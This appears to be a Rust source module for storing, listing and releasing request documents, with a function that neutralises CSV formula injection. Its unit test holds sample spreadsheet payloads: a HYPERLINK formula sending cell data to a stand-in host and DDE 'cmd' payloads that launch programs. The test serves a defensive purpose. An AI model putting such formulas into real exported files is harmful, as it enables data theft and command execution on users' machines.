//! Letters and certificates as stored documents: rendered inside the transaction of the
//! change that calls for them, kept as blobs with their SHA-256, listed, downloaded, and
//! released to the requester.

mod letters;
mod release;
mod store;

pub use letters::*;
pub use release::*;
pub use store::*;

use serde::Serialize;
use utoipa::ToSchema;

use crate::db::documents as doc_db;
use crate::db::models::DocumentRow;
use crate::domain::enums::Role;
use crate::services::request::Request;
use crate::services::{Context, Principal, ServiceError};

pub const PDF: &str = "application/pdf";

/// A text cell for a CSV file given to a requester, safe to open in a spreadsheet: a cell
/// that starts with `=`, `+`, `-`, `@`, a tab or a carriage return would be read as a formula
/// (which can run commands or send data away), so it gets a leading `'`, which spreadsheets
/// take as "text follows" (OWASP's advice for CSV injection). Every other cell is unchanged.
pub fn csv_cell(text: &str) -> std::borrow::Cow<'_, str> {
    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{text}").into()
    } else {
        text.into()
    }
}

#[derive(Debug, Clone, Serialize, ToSchema)]
pub struct DocumentOutput {
    pub id: String,
    pub kind: String,
    pub language: String,
    pub filename: String,
    pub media_type: String,
    pub sha256: String,
    pub size: i64,
    pub created_at: chrono::DateTime<chrono::Utc>,
    /// Null when the service made it on its own (e.g. the acknowledgement).
    pub created_by: Option<String>,
    pub released_at: Option<chrono::DateTime<chrono::Utc>>,
    /// Until when the requester can download it.
    pub expires_at: Option<chrono::DateTime<chrono::Utc>>,
}

impl From<&DocumentRow> for DocumentOutput {
    fn from(d: &DocumentRow) -> DocumentOutput {
        DocumentOutput {
            id: d.id.clone(),
            kind: d.kind.clone(),
            language: d.language.clone(),
            filename: d.filename.clone(),
            media_type: d.media_type.clone(),
            sha256: d.sha256.clone(),
            size: d.size,
            created_at: d.created_at.and_utc(),
            created_by: d.created_by.clone(),
            released_at: d.released_at.map(|t| t.and_utc()),
            expires_at: d.expires_at.map(|t| t.and_utc()),
        }
    }
}

pub fn list(
    ctx: &Context,
    principal: &Principal,
    request_id: &str,
) -> Result<Vec<DocumentOutput>, ServiceError> {
    principal.require(&[Role::Staff, Role::Dpo])?;
    let mut conn = ctx.conn()?;
    Request::load(&mut conn, &principal.org_id, request_id)?;
    Ok(doc_db::list_documents(&mut conn, request_id)?
        .iter()
        .map(DocumentOutput::from)
        .collect())
}

pub fn find(
    ctx: &Context,
    principal: &Principal,
    doc_id: &str,
) -> Result<DocumentRow, ServiceError> {
    principal.require(&[Role::Staff, Role::Dpo])?;
    let mut conn = ctx.conn()?;
    doc_db::find_document(&mut conn, &principal.org_id, doc_id)?
        .ok_or(ServiceError::NotFound("document"))
}

#[cfg(test)]
mod tests {
    use super::csv_cell;

    #[test]
    fn csv_cells_that_a_spreadsheet_would_run_are_neutralised() {
        for (cell, safe) in [
            (
                "=HYPERLINK(\"http://x.example/?\"&A1)",
                "'=HYPERLINK(\"http://x.example/?\"&A1)",
            ),
            ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
            ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
            (
                "@SUM(1+1)*cmd|' /C calc'!A0",
                "'@SUM(1+1)*cmd|' /C calc'!A0",
            ),
            ("\t=1+1", "'\t=1+1"),
            ("\r=1+1", "'\r=1+1"),
            ("Maija Meikäläinen", "Maija Meikäläinen"),
            ("a=b", "a=b"),
            (" =1", " =1"),
            ("", ""),
        ] {
            assert_eq!(csv_cell(cell), safe, "{cell:?}");
        }
    }
}
